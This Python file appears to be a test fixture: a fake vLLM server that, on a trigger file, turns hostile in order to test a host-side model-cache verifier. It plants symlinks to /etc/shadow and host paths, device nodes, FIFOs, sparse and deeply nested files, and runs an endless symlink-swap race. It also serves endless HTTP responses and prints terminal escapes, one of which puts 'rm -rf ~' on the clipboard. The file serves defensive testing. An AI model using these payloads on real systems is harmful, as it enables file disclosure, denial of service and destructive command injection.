# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""A server that is taken over: it answers like vLLM until its cache holds the file `go`, and then does all it can.

Runs in the container, beside standin_engine.py. It writes wherever it may, and says `planted` when it has.
"""

from __future__ import annotations

import contextlib
import itertools
import json
import os
import sys
import threading
import time
from pathlib import Path

import standin_engine

OWN = Path("/root/.cache")
MODELS = OWN / "huggingface"
GO, PLANTED = OWN / "go", OWN / "planted"
OUTSIDE = "/srv/outside"  # on the host
COMMIT, BLOB = "c" * 40, "a" * 64
PLACES = (
    "refs/main",
    "blobs",
    f"blobs/{BLOB}",
    f"blobs/{BLOB}.incomplete",
    f"snapshots/{COMMIT}/config.json",
    f"snapshots/{COMMIT}/model.safetensors",
    f"trees/{COMMIT}.json",
    f".dgxspark/{COMMIT}.json",
    ".dgxspark/verified.json",
    ".dgxspark/verify.lock",
    ".dgxspark/incoming",
)


def sparse(path: Path) -> None:
    with path.open("wb") as file:
        file.truncate(1 << 40)


KINDS = {
    "fifo": os.mkfifo,
    "zero": lambda path: path.symlink_to("/dev/zero"),
    "outside": lambda path: path.symlink_to(OUTSIDE),
    "file": lambda path: path.symlink_to(f"{OUTSIDE}/file"),
    "shadow": lambda path: path.symlink_to("/etc/shadow"),
    "loop": lambda path: path.symlink_to(path.name),
    "sparse": sparse,
    "nested": lambda path: path.write_text("[" * 200_000),
    "device": lambda path: os.mknod(path, 0o666 | 0o020000, os.makedev(1, 5)),
}


def plant() -> None:
    for number, (place, kind) in enumerate(itertools.product(PLACES, KINDS)):
        # sparse files are read by a full verification, which is honest work: one is enough
        if kind == "sparse" and place != ".dgxspark/verified.json":
            continue
        repo = MODELS / f"models--evil--m{number}"
        for folder in ("blobs", "refs", "trees", ".dgxspark", f"snapshots/{COMMIT}"):
            (repo / folder).mkdir(parents=True)
        (repo / "refs" / "main").write_text(COMMIT)
        path = repo / place
        if path.is_dir():
            path.rmdir()
        path.unlink(missing_ok=True)
        with contextlib.suppress(PermissionError):  # no capability to make a device
            KINDS[kind](path)
    for folder in (OWN, MODELS):
        for name, make in KINDS.items():
            with contextlib.suppress(PermissionError):
                make(folder / f"models--evil--{name}")
    for folder in (OWN, MODELS / "models--evil--deep" / "snapshots"):
        deep(folder)
    (MODELS / "models--evil--\x1b]0;owned\x07").mkdir()


def deep(folder: Path) -> None:
    """Deeper than Python's recursion, and than the longest path."""
    folder.mkdir(parents=True, exist_ok=True)
    here = os.open(folder, os.O_RDONLY)
    for _level in range(3000):
        os.mkdir("d", dir_fd=here)
        below = os.open("d", os.O_RDONLY, dir_fd=here)
        os.close(here)
        here = below
    os.close(here)


def swap_for_ever() -> None:
    """A folder that is read becomes a link out of the cache, and back."""
    repo = MODELS / "models--evil--swap"
    for folder in ("refs", "blobs", f"snapshots/{COMMIT}"):
        (repo / folder).mkdir(parents=True)
    (repo / "refs" / "main").write_text(COMMIT)
    content = {"architectures": ["Qwen3ForCausalLM"]}
    (repo / "blobs" / BLOB).write_text(json.dumps(content))
    (repo / "snapshots" / COMMIT / "config.json").symlink_to(f"../../blobs/{BLOB}")
    (repo / "link").symlink_to(OUTSIDE)
    folders = [repo / "blobs", repo / "snapshots", repo / "refs"]
    PLANTED.touch()
    while True:
        for folder in folders:
            os.rename(folder, repo / "kept")
            os.rename(repo / "link", folder)
            time.sleep(0.001)
            os.rename(folder, repo / "link")
            os.rename(repo / "kept", folder)


def attack() -> None:
    while not GO.exists():
        time.sleep(0.1)
    print("\x1b]0;owned\x07\x1b]52;c;cm0gLXJmIH4K\x07RuntimeError: \u202eboom", flush=True)
    plant()
    swap_for_ever()


class Handler(standin_engine.Handler):
    def answer(self) -> None:
        if not PLANTED.exists():
            super().answer()
            return
        self.send_response(200)
        self.end_headers()
        with contextlib.suppress(OSError):
            while True:  # one page without end, the others byte by byte
                self.wfile.write(b"[" * 65536 if self.path == "/v1/models" else b" ")
                time.sleep(0 if self.path == "/v1/models" else 0.2)


if __name__ == "__main__":
    threading.Thread(target=attack, daemon=True).start()
    standin_engine.Handler = Handler  # type: ignore[misc]
    sys.exit(standin_engine.main())
